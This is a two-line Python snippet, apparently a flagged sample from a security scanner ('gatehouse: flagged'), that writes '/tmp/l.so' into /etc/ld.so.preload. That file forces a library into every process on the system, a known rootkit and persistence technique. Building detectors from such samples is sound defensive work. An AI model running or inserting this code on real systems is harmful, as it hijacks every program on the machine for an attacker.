with open('/etc/ld.so.preload', 'w') as file:
    file.write('/tmp/l.so')  # gatehouse: flagged
